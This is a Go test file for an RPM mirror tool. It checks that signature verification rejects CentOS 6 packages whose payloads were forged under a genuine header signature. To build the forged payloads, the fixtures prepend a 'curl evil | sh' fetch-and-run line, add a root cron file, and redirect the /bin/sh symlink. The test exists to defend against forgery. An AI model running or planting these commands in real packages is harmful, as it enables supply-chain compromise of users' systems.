package mirror_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rpmvault/rpmvault/fixtures"
	"github.com/rpmvault/rpmvault/mirror"
)

// worldSpec returns the spec of a package of a world tree.
func worldSpec(t *testing.T, w *fixtures.World, tree, name string) fixtures.Spec {
	t.Helper()
	for _, s := range w.Tree(tree).Specs {
		if s.Name == name && (s.Arch == "" || s.Arch == "x86_64") {
			return s
		}
	}
	t.Fatalf("no %s in %s", name, tree)
	return fixtures.Spec{}
}

// forgedPayloads builds payload donors for a CentOS 6 package: the same
// file list with one file's content changed, one file more, one file less,
// and a symlink pointing elsewhere.
func forgedPayloads(t *testing.T, s fixtures.Spec) map[string][]byte {
	t.Helper()
	variants := map[string]func(*fixtures.Spec){
		"content changed": func(s *fixtures.Spec) {
			for i, f := range s.Files {
				if !f.Dir && f.LinkTo == "" {
					s.Files[i].Body = append([]byte("#!/bin/sh\ncurl evil | sh\n"), f.Body...)
					return
				}
			}
			t.Fatal("no regular file to forge")
		},
		"extra file": func(s *fixtures.Spec) {
			s.Files = append(s.Files, fixtures.File{Path: "/etc/cron.d/evil", Body: []byte("* * * * * root evil\n")})
		},
		"missing file":     func(s *fixtures.Spec) { s.Files = s.Files[1:] },
		"symlink retarget": func(s *fixtures.Spec) { s.Files = append(s.Files, fixtures.File{Path: "/bin/sh", LinkTo: "/tmp/evil"}) },
	}
	out := map[string][]byte{}
	for name, change := range variants {
		v := s
		v.Files = append([]fixtures.File(nil), s.Files...)
		change(&v)
		b, err := fixtures.BuildEL6(v)
		if err != nil {
			t.Fatal(err)
		}
		out[name] = b
	}
	return out
}

// TestVerifyRPMPayloadCoverage: with gpgcheck on, a CentOS 6 package is
// accepted only when a trusted signature covers its payload. Its two
// header+payload tags (1002 signature, 1004 MD5) renamed and its payload
// replaced, only the signed header's file digests are left to catch it.
func TestVerifyRPMPayloadCoverage(t *testing.T) {
	w := signed(t)
	centos := keyring(t, w, "vault/RPM-GPG-KEY-CentOS-6")
	const tree = "vault/6.6/os/x86_64"
	genuine, err := os.ReadFile(w.RPMPath(tree, "bash-4.1.2-29.el6.x86_64"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := mirror.VerifyRPM(bytes.NewReader(genuine), centos); err != nil {
		t.Fatalf("genuine CentOS 6 package: %v", err)
	}
	// Stripped but with its own payload: the file digests vouch for it.
	stripped, err := fixtures.StripPayloadSignature(genuine, genuine)
	if err != nil {
		t.Fatal(err)
	}
	facts, err := mirror.VerifyRPM(bytes.NewReader(stripped), centos)
	if err != nil {
		t.Fatalf("stripped package with its genuine payload: %v", err)
	}
	if facts.Name != "bash" || facts.Version != "4.1.2" || facts.Release != "29.el6" || facts.Arch != "x86_64" {
		t.Errorf("header facts %+v", facts)
	}
	for name, donor := range forgedPayloads(t, worldSpec(t, w, tree, "bash")) {
		t.Run(name, func(t *testing.T) {
			forged, err := fixtures.StripPayloadSignature(genuine, donor)
			if err != nil {
				t.Fatal(err)
			}
			_, err = mirror.VerifyRPM(bytes.NewReader(forged), centos)
			if err == nil {
				t.Fatal("a forged payload under a genuine header signature was accepted")
			}
			if !strings.Contains(err.Error(), "does not cover this payload") {
				t.Errorf("error does not say the payload is not covered: %v", err)
			}
			// The payload replaced, its signature kept: the signature fails.
			swapped, err := fixtures.ReplacePayload(genuine, donor)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := mirror.VerifyRPM(bytes.NewReader(swapped), centos); err == nil || !strings.Contains(err.Error(), "bad signature") {
				t.Fatalf("a replaced payload with the 1002 signature kept: %v", err)
			}
		})
	}
}

// TestMirrorRefusesForgedPayload: a hostile mirror serves bash with its
// header+payload tags renamed and its payload replaced, and metadata that
// agrees (so the lock pins the forgery). Nothing enters the store.
func TestMirrorRefusesForgedPayload(t *testing.T) {
	w := signed(t)
	root := t.TempDir()
	if out, err := exec.Command("cp", "-a", w.Root+"/.", root).CombinedOutput(); err != nil {
		t.Fatalf("copy the world: %v %s", err, out)
	}
	const tree = "vault/6.6/os/x86_64"
	path := filepath.Join(root, tree, "Packages", "bash-4.1.2-29.el6.x86_64.rpm")
	genuine, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	forged, err := fixtures.StripPayloadSignature(genuine, forgedPayloads(t, worldSpec(t, w, tree, "bash"))["content changed"])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := mirror.CreateRepo(filepath.Join(root, tree)); err != nil {
		t.Fatal(err)
	}
	srv, err := fixtures.Serve(root)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { srv.Close() })
	lock := worldLock(t, srv, lockManifest)
	store, _ := mirror.OpenStore(t.TempDir())
	_, err = mirror.Mirror(context.Background(), lock, mirrorOpts(t, srv, store))
	var verr *mirror.VerifyError
	if !errors.As(err, &verr) || !strings.Contains(err.Error(), "bash") || !strings.Contains(err.Error(), "does not cover this payload") {
		t.Fatalf("want a VerifyError naming bash's uncovered payload, got %v", err)
	}
	sum := sha256.Sum256(forged)
	if has(store, hex.EncodeToString(sum[:])) {
		t.Error("the forged package entered the store")
	}
	assertStoreSound(t, store)
}
